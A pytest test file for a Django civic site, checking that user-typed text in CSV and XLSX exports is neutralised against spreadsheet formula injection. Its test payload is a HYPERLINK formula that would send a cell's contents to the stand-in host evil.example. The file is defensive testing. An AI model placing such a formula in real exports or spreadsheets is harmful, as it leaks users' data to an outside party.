"""Issue 12, item 19: text typed by anyone stays text in every CSV and XLSX the site exports."""

import csv
import io

import pytest
from django.utils import translation
from openpyxl import load_workbook

from civica.accounts.roles import Role
from civica.accounts.tests.factories import UserFactory
from civica.core.exports import csv_writer, safe_cell

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.fixture(autouse=True)
def _in_english():
    with translation.override("en"):
        yield


def read_csv(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_cells_that_a_spreadsheet_would_run_are_neutralised():
    for dangerous in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(dangerous) == "'" + dangerous
    for harmless in ("Park", "", "1. Education", "a=b", -5, 3.5, None):
        assert safe_cell(harmless) == harmless
    buffer = io.StringIO()
    csv_writer(buffer).writerows([["=1+1", 7, "ok"]])
    assert buffer.getvalue() == "'=1+1,7,ok\r\n"


@pytest.mark.django_db
def test_poll_responses_csv(client, participant):
    from civica.participation.tests.polls.test_polls import answers, make_poll

    poll = make_poll()
    text_question = poll.questions.get(kind="text")
    client.force_login(participant)
    client.post(poll.get_absolute_url(), answers(poll, **{f"q{text_question.pk}": FORMULA}))
    client.force_login(UserFactory(role=Role.EDITOR))
    rows = read_csv(client.get(poll.get_absolute_url() + "responses.csv"))
    assert rows[1][-1] == "'" + FORMULA


@pytest.mark.django_db
def test_workshop_action_plan_csv(client):
    from civica.meetings.tests.factories import MeetingFactory
    from civica.workshops import services as workshops
    from civica.workshops.models import Workshop

    workshop = Workshop.objects.create(meeting=MeetingFactory(), slug="cafe")
    editor = UserFactory(role=Role.EDITOR)
    workshops.action_add(workshop=workshop, by=editor, title=FORMULA, owner="@City")
    client.force_login(editor)
    rows = read_csv(client.get(f"/en/workshops/{workshop.slug}/action-plan.csv"))
    assert rows[1][0] == "'" + FORMULA and rows[1][2] == "'@City"


@pytest.mark.django_db
def test_plan_xlsx_and_csv(client, editor):
    from civica.accountability.models import Activity
    from civica.accountability.tests.factories import make_plan

    plan = make_plan()
    Activity.objects.filter(plan=plan, position=0).update(title_ro=FORMULA)
    client.force_login(editor)
    sheet = load_workbook(io.BytesIO(client.get(f"/en/plans/{plan.slug}/plan.xlsx").content))["activities"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" for cell in cells)
    rows = read_csv(client.get(f"/en/plans/{plan.slug}/activities.csv"))
    assert any("'" + FORMULA in row for row in rows)
